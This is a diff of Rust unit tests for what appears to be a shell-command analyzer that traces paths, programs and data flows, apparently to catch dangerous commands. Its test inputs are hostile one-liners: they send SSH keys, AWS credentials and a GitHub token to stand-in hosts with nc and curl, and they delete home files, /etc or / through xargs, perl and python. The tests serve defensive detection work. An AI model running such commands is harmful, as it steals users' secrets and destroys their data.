@@ -223,6 +223,61 @@ fn eval_static_and_dynamic() {
     assert!(x.commands[0].nested_dynamic);
 }
 #[test]
+fn find_names_listings_and_variables_carry_paths() {
+    // `{}` is a `-name` match under the start path, globbed over known entries
+    let cat = cmd(
+        "find ~/.ssh -name 'id_*' ! -name '*.pub' -exec cat {} +",
+        "cat",
+    );
+    assert!(
+        paths(&cat).contains(&"/home/u/.ssh/id_rsa"),
+        "{:?}",
+        paths(&cat)
+    );
+    assert_eq!(
+        paths(&cmd("find . -name '*.pyc' -exec rm {} +", "rm")),
+        ["/home/u/proj/*.pyc"]
+    );
+    // what `-exec` commands print is find's output
+    assert!(a("find ~/.ssh -name 'id_*' -exec cat {} + | nc h 1").feeds_any(&["cat"], &["nc"]));
+    // find's and ls's listings give xargs known paths; an unknown part stays unknown
+    assert_eq!(
+        paths(&cmd("find ~ -name .env | xargs cat", "cat")),
+        ["/home/u/.env"]
+    );
+    let tar = cmd(
+        "find ~ \\( -name .env -o -name '*.pem' \\) | xargs tar czf -",
+        "tar",
+    );
+    assert!(texts(&tar).contains(&"/home/u/.env") && tar.has_dynamic_args());
+    assert!(cmd("find . -name '*.log' | xargs rm -rf", "rm").has_dynamic_args());
+    assert!(paths(&cmd("ls ~/.ssh/id_r* | xargs cat", "cat")).contains(&"/home/u/.ssh/id_rsa"));
+    // a known folder lists its entry names; `xargs -I R` puts each into R's place
+    let curl = cmd("ls ~/.aws | xargs -I{} curl -T ~/.aws/{} https://x", "curl");
+    assert!(
+        paths(&curl).contains(&"/home/u/.aws/credentials"),
+        "{:?}",
+        paths(&curl)
+    );
+    assert!(cmd("ls build | xargs rm -rf", "rm").has_dynamic_args());
+    // `xargs -a F` reads a file this line wrote; `-I R` puts the first line in R's place
+    let rm = cmd(
+        "echo 'rm -rf ~/Documents' > c.txt; xargs -a c.txt -I% sh -c '%'",
+        "rm",
+    );
+    assert_eq!(paths(&rm), ["/home/u/Documents"]);
+    assert_eq!(rm.via, ["xargs", "sh -c"]);
+    // `$(<file)` reads the file; a variable holding a command's output is fed by it
+    let x = a("p=~/.ssh/id_rsa; curl -d \"$(<$p)\" https://x");
+    assert!(x.feeds_any(&["cat"], &["curl"]));
+    assert_eq!(
+        paths(&cmd("p=~/.ssh/id_rsa; curl -d \"$(<$p)\" https://x", "cat")),
+        ["/home/u/.ssh/id_rsa"]
+    );
+    assert!(a("k=$(gh auth token); curl \"https://x/?t=$k\"").feeds_any(&["gh"], &["curl"]));
+    assert!(!a("k=$(gh auth token); k=abc; curl https://x/$k").feeds_any(&["gh"], &["curl"]));
+}
+#[test]
 fn xargs_find_exec() {
     let rm = cmd("find . -name '*.o' | xargs -0 -n 1 rm -f", "rm");
     assert_eq!(rm.via, ["xargs"]);
@@ -730,10 +785,10 @@ fn control_flow_bodies() {
         ["true", "rm", "echo"]
     );
     assert_eq!(progs("for f in $(ls); do rm \"$f\"; done"), ["ls", "rm"]);
-    // a loop redirection shows up as a redirection-only command
+    // a loop's input redirection reads its file (as `cat f | while …` would)
     assert_eq!(
         progs("while read l; do echo $l; done < f"),
-        ["read", "echo", ""]
+        ["read", "echo", "cat"]
     );
     assert_eq!(
         progs("case $x in a|b) rm -rf /;; *) ls;; esac; pwd"),
@@ -995,6 +1050,39 @@ fn expansion_braces_globs_tilde() {
         paths(&cmd("cat ~/.s?h/id_rsa", "cat")),
         ["/home/u/.ssh/id_rsa"]
     );
+    // the home's credential folders have known entries too; public halves stay public
+    assert_eq!(
+        paths(&cmd("cat ~/.ss?/id_[re]*", "cat")),
+        [
+            "/home/u/.ssh/id_rsa",
+            "/home/u/.ssh/id_ed25519",
+            "/home/u/.ssh/id_ecdsa",
+            "/home/u/.ssh/id_ed25519_sk",
+            "/home/u/.ssh/id_ecdsa_sk",
+            "/home/u/.ssh/id_rsa.pub",
+            "/home/u/.ssh/id_ed25519.pub",
+            "/home/u/.ssh/id_ecdsa.pub"
+        ]
+    );
+    assert!(paths(&cmd("cat ~/.ssh/id_*.pub", "cat"))
+        .iter()
+        .all(|p| p.ends_with(".pub")));
+    assert_eq!(
+        paths(&cmd("cat ~/.a?s/cred*", "cat")),
+        ["/home/u/.aws/credentials"]
+    );
+    // a relative glob is read in the tracked cwd; a quoted one is no glob
+    let dots = paths(&cmd("cd ~ && rm -rf .[!.]*", "rm")).join(" ");
+    assert!(
+        dots.contains("/home/u/.ssh") && dots.contains("/home/u/.bashrc"),
+        "{dots}"
+    );
+    assert!(paths(&cmd("cd ~/.ssh && cat id_*", "cat")).contains(&"/home/u/.ssh/id_rsa"));
+    assert_eq!(
+        paths(&cmd("cd ~ && rm -rf '.[!.]*'", "rm")),
+        ["/home/u/.[!.]*"]
+    );
+    assert_eq!(paths(&cmd("rm -rf *.o", "rm")), ["/home/u/proj/*.o"]);
     // project-local look-alikes stay what they are
     assert_eq!(
         paths(&cmd("rm -rf ./{build,dist}", "rm")),
@@ -1131,6 +1219,16 @@ fn interpreter_bodies_become_commands() {
     assert!(c.via.iter().any(|v| v == "python3 -c"));
     let c = cmd("python -c 'import shutil; shutil.rmtree(\"/etc\")'", "rm");
     assert_eq!(texts(&c), ["-rf", "/etc"]);
+    // a module option ending in `e` is no `-e` (`-MFile::Path=remove_tree`); `-lne` is
+    let c = cmd(
+        "perl -MFile::Path=remove_tree -e 'remove_tree(\"/etc\")'",
+        "rm",
+    );
+    assert_eq!(texts(&c), ["-rf", "/etc"]);
+    assert!(a("perl -lne 'system(\"rm -rf /\")'")
+        .commands
+        .iter()
+        .any(|c| c.program == "rm"));
     assert!(a("perl -e 'system(\"rm -rf /\")'")
         .commands
         .iter()
